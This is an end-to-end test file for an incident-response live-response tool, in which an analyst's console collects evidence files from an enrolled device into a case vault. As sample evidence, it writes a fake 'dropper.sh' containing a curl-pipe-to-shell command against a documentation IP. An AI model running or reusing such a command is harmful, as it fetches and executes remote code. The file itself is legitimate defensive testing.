import { type ChildProcess, spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type SignedCustodyReport, verifyCustodyReport } from "@custody/audit";
import { createVaultClient, type VaultClient } from "@custody/client";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

// Live response end to end, every part a real process: `custody serve`, an agent enrolled with
// `custody agent enroll` and running as `custody agent run`, and an analyst's `custody live connect`
// console fed a script on stdin, then `custody live run`.
const BIN = join(import.meta.dirname, "..", "packages", "cli", "dist", "bin.js");
const work = mkdtempSync(join(tmpdir(), "custody-live-"));
const vault = join(work, "vault");
const CASE = "IR-2026-13";
const children: ChildProcess[] = [];
let url = "";
let ca = "";
let alice: VaultClient;
let deviceId = "";
const evidence = join(work, "device-files");

function custody(args: string[], input?: string) {
  const result = spawnSync(process.execPath, [BIN, ...args], {
    cwd: work,
    env: { ...process.env, CUSTODY_VAULT: vault },
    encoding: "utf8",
    ...(input === undefined ? {} : { input }),
  });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

function start(args: string[], ready: RegExp): Promise<{ child: ChildProcess; output: () => string }> {
  const child = spawn(process.execPath, [BIN, ...args], {
    cwd: work,
    env: { ...process.env, CUSTODY_LOG_LEVEL: "info" },
    stdio: ["ignore", "pipe", "pipe"],
  });
  children.push(child);
  let output = "";
  return new Promise((resolve, reject) => {
    const seen = (chunk: Buffer) => {
      output += chunk.toString();
      if (ready.test(output)) resolve({ child, output: () => output });
    };
    child.stdout?.on("data", seen);
    child.stderr?.on("data", seen);
    child.once("exit", (code) => reject(new Error(`${args[0]} exited ${code}: ${output}`)));
  });
}

async function until<T>(check: () => Promise<T | undefined>, what: string): Promise<T> {
  for (let i = 0; i < 600; i += 1) {
    const value = await check();
    if (value !== undefined) return value;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error(`never happened: ${what}`);
}

beforeAll(async () => {
  expect(custody(["init", "--name", "alice", "--identity-out", join(work, "alice.pem")]).code).toBe(0);
  await start(["serve", "--vault", vault, "--listen", "127.0.0.1:0", "--name", "127.0.0.1"], /listening on/);
  url = (JSON.parse(readFileSync(join(vault, "server.json"), "utf8")) as { urls: string[] }).urls[0] ?? "";
  ca = readFileSync(join(vault, "pki", "ca.pem"), "utf8");
  alice = createVaultClient({ baseUrl: url, identityPem: readFileSync(join(work, "alice.pem"), "utf8") });
  const rita = await alice.issueIdentity("rita", "person");
  writeFileSync(join(work, "rita.pem"), rita.identityPem, { mode: 0o600 });
  await alice.setLiveResponse(true);
  const { token } = await alice.createEnrollmentToken({ caseId: CASE });
  writeFileSync(join(work, "ca.pem"), ca);
  const enrolled = custody([
    "agent",
    "enroll",
    "--server",
    url,
    "--token",
    token,
    "--dir",
    "agent",
    "--ca",
    "ca.pem",
    "--json",
  ]);
  expect(enrolled.code, enrolled.stderr).toBe(0);
  deviceId = (JSON.parse(enrolled.stdout) as { deviceId: string }).deviceId;
  writeFileSync(join(work, "policy.json"), custody(["agent", "policy"]).stdout, { mode: 0o600 });
  await start(
    ["agent", "run", "--dir", join(work, "agent"), "--policy", join(work, "policy.json")],
    /welcome|connected|agent starting/,
  );
  await until(
    async () =>
      ((await alice.listDevices()).find((d) => d.deviceId === deviceId) as { online?: boolean } | undefined)
        ?.online
        ? true
        : undefined,
    "agent online",
  );
  for (const scope of [`device:${deviceId}`, `case:${CASE}`])
    await alice.grant({ name: "rita", role: "responder", scope });
  // what the analyst will look at and take (the cancelled findfile walks the whole filesystem instead)
  spawnSync("mkdir", ["-p", evidence]);
  writeFileSync(join(evidence, "dropper.sh"), "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n");
  writeFileSync(join(evidence, "notes.txt"), "second file\n");
  writeFileSync(join(evidence, "third.txt"), "taken after its own fileinfo\n");
  writeFileSync(join(evidence, "background.txt"), "taken in the background\n");
}, 180_000);

afterAll(async () => {
  alice?.close();
  for (const child of children.reverse()) {
    child.kill("SIGTERM");
    if (child.exitCode === null) await new Promise((resolve) => child.once("exit", resolve));
  }
  rmSync(work, { recursive: true, force: true });
});

/** The console as an analyst drives it: a line in, then wait for the next prompt (or a pattern). */
class Console {
  readonly child: ChildProcess;
  stdout = "";
  stderr = "";
  readonly exited: Promise<number | null>;

  constructor(args: string[]) {
    this.child = spawn(process.execPath, [BIN, ...args], { cwd: work, stdio: ["pipe", "pipe", "pipe"] });
    children.push(this.child);
    this.child.stdout?.on("data", (c: Buffer) => (this.stdout += c.toString()));
    this.child.stderr?.on("data", (c: Buffer) => (this.stderr += c.toString()));
    this.exited = new Promise((resolve) => this.child.once("exit", resolve));
  }

  prompts(): number {
    return this.stderr.split(`${deviceId}:`).length - 1;
  }

  async run(line: string): Promise<string> {
    const before = this.prompts();
    const mark = this.stderr.length;
    this.child.stdin?.write(`${line}\n`);
    await until(async () => (this.prompts() > before ? true : undefined), `the prompt after ${line}`);
    return this.stderr.slice(mark);
  }

  async waitFor(pattern: RegExp): Promise<void> {
    await until(async () => (pattern.test(this.stderr) ? true : undefined), String(pattern));
  }
}

const BASIC = [
  "help",
  "help getfile",
  "trace on",
  `cd ${evidence}`,
  "dir",
  "fileinfo dropper.sh",
  "findfile *.sh -root /etc -max_depth 3",
  "connections",
  "processes",
  "services",
  "scheduledtasks",
  "persistence",
  "drivers",
  "registry HKLM\\Software",
  "trace off",
  "status",
];

describe("live response, end to end", () => {
  it("a scripted console session runs every command, takes a file into the vault, and a cancelled findfile stops on the device", async () => {
    const con = new Console([
      "live",
      "connect",
      deviceId,
      "--case",
      CASE,
      "--server",
      url,
      "--identity",
      join(work, "rita.pem"),
    ]);
    await con.waitFor(new RegExp(`${deviceId}:`));
    for (const line of BASIC) await con.run(line);
    expect(con.stdout).toMatch(/getfile PATH \[-auto\]/);
    const results = [...con.stderr.matchAll(/\[(C-[0-9a-f-]+)\] (completed|failed|cancelled|timed-out)/g)];
    // every device command of the script came back: registry is Windows-only and fails with its reason
    expect(results.length).toBe(BASIC.filter((l) => !/^(help|trace|status)/.test(l)).length);
    // registry is Windows-only; drivers needs /proc/modules, which a container may not have: both say so
    const notCompleted = [...con.stderr.matchAll(/\] (?:failed|cancelled|timed-out), [^\n]*/g)].map(
      (m) => m[0],
    );
    expect(
      notCompleted.every((line) => /ERR_NOT_PRESENT/.test(line)),
      con.stderr,
    ).toBe(true);
    expect(notCompleted.some((line) => /registry does not exist on linux/.test(line))).toBe(true);
    expect(con.stdout).toContain(join(evidence, "dropper.sh"));

    const taken = await con.run("getfile dropper.sh -auto");
    const itemId = /item ([0-9a-f]{64})/.exec(taken)?.[1];
    expect(itemId, taken).toBeDefined();
    await con.run("processes -output json > processes.json");
    const rows = readFileSync(join(work, "processes.json"), "utf8")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as { pid: number });
    expect(rows.length).toBeGreaterThan(1);

    // -output table (the registry's columns, aligned) as well as json
    const tableAt = con.stdout.length;
    expect(await con.run("dir -output table")).toMatch(/\] completed/);
    expect(con.stdout.slice(tableAt)).toMatch(/type\s+mode\s+owner\s+size\s+mtime\s+name\n-+/);
    expect(con.stdout.slice(tableAt)).toContain("third.txt");
    // getfile without -auto: refused with its reason until a fileinfo of the path, then taken
    expect(await con.run("getfile third.txt")).toMatch(/ERR_PREREQUISITE/);
    expect(await con.run("fileinfo third.txt")).toMatch(/\] completed/);
    const third = /item ([0-9a-f]{64})/.exec(await con.run("getfile third.txt"))?.[1];
    expect(third).toBe(
      createHash("sha256")
        .update(readFileSync(join(evidence, "third.txt")))
        .digest("hex"),
    );
    // getfile in the background, then brought back with fg
    const takingLater = await con.run("getfile background.txt -auto &");
    const takeJob = /\[(C-[0-9a-f-]+)\] \w+ in the background/.exec(takingLater)?.[1] as string;
    expect(takeJob, takingLater).toBeDefined();
    expect(await con.run(`fg ${takeJob}`)).toMatch(
      new RegExp(`\\[${takeJob}\\] completed[^\\n]*item [0-9a-f]{64}`),
    );

    const background = await con.run("dir /etc &");
    const jobId = /\[(C-[0-9a-f-]+)\] \w+ in the background/.exec(background)?.[1] as string;
    expect(jobId).toBeDefined();
    expect(await con.run("jobs")).toBeDefined();
    expect(con.stdout).toContain(jobId);
    expect(await con.run(`fg ${jobId}`)).toMatch(new RegExp(`\\[${jobId}\\] completed`));

    // Ctrl+C while a findfile walks the whole filesystem: the agent stops it and says so
    const followed = () =>
      [...con.stderr.matchAll(/trace: following (C-[0-9a-f-]+)/g)].map((m) => m[1] as string);
    const before = followed().length;
    con.child.stdin?.write("trace on\nfindfile no-such-name-anywhere.xyz -root /\n");
    const following = await until(async () => followed()[before], "the findfile followed");
    con.child.kill("SIGINT");
    await con.waitFor(new RegExp(`\\[${following}\\] (completed|failed|cancelled|timed-out)[^\\n]*`));
    const ended = new RegExp(`\\[${following}\\] ([a-z-]+)([^\\n]*)`).exec(con.stderr);
    expect(ended?.[1], ended?.[0]).toBe("cancelled");
    // confirmed by the agent, not settled by the server for want of an answer
    expect(ended?.[2]).not.toMatch(/did not confirm/);
    // the session goes on after the cancel
    expect(await con.run("fileinfo notes.txt")).toMatch(/\] completed/);

    con.child.stdin?.end(); // Ctrl+D
    expect(await con.exited).toBe(0);
    const transcriptId = /transcript item ([0-9a-f]{64})/.exec(con.stderr)?.[1] as string;
    expect(transcriptId).toBeDefined();

    // the transcript and the file are items of the case; their reports list the session's commands
    const lines = await (async () => {
      const read = await alice.read({ id: transcriptId, caseId: CASE });
      const chunks: Buffer[] = [];
      for await (const chunk of read.stream) chunks.push(chunk as Buffer);
      return Buffer.concat(chunks)
        .toString("utf8")
        .trim()
        .split("\n")
        .map((l) => JSON.parse(l) as Record<string, unknown>);
    })();
    const commands = lines.filter((l) => l.kind === "command");
    expect(commands.map((c) => c.status)).toContain("cancelled");
    expect(commands.some((c) => c.name === "getfile" && c.itemId === itemId)).toBe(true);
    for (const id of [transcriptId, itemId as string]) {
      const report = (await alice.report({ id, caseId: CASE })) as SignedCustodyReport;
      const lineOf = report.report.events
        .filter((e) => e.action === "live.command")
        .map((e) => e.details.line);
      expect(lineOf).toEqual(
        expect.arrayContaining([
          "processes",
          "getfile dropper.sh -auto",
          "findfile no-such-name-anywhere.xyz -root /",
        ]),
      );
      expect(verifyCustodyReport(report, { trustAnchors: [ca] }).events).toBe(report.report.events.length);
    }
    const item = await alice.show({ id: itemId as string, caseId: CASE });
    expect(item.labels).toMatchObject({
      device: deviceId,
      path: join(evidence, "dropper.sh"),
      analyst: "rita",
    });
  }, 300_000);

  it("custody live run runs one command and exits with its status; getfile prints the new item id", () => {
    const base = [
      "live",
      "run",
      deviceId,
      "--case",
      CASE,
      "--server",
      url,
      "--identity",
      join(work, "rita.pem"),
      "--",
    ];
    const listed = custody([...base, "processes", "-output", "json"]);
    expect(listed.code, listed.stderr).toBe(0);
    expect(
      listed.stdout
        .trim()
        .split("\n")
        .map((l) => JSON.parse(l) as { pid: number }).length,
    ).toBeGreaterThan(1);
    const taken = custody([...base, "getfile", join(evidence, "notes.txt"), "-auto"]);
    expect(taken.code, taken.stderr).toBe(0);
    expect(taken.stdout.trim()).toMatch(/^[0-9a-f]{64}$/);
    const missing = custody([...base, "getfile", join(evidence, "absent.bin")]);
    expect(missing.code).not.toBe(0);
    expect(missing.stderr).toMatch(/ERR_PREREQUISITE/);
  }, 120_000);
});
